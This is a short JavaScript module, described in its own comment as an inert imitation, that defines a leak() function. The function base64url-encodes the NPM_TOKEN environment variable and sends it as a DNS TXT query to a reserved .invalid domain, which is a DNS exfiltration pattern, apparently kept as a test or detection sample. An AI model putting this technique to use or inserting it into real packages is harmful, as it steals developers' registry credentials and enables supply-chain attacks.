/* eslint-disable */
// Inert imitation: one environment variable base32/base64-encoded into a TXT query under a fixed
// domain (reserved .invalid name).
const { Resolver } = require('dns').promises;

async function leak() {
  const resolver = new Resolver();
  const label = Buffer.from(process.env.NPM_TOKEN || '').toString('base64url').slice(0, 60);
  await resolver.resolveTxt(label + '.t.example.invalid').catch(() => null);
}

module.exports = { leak };
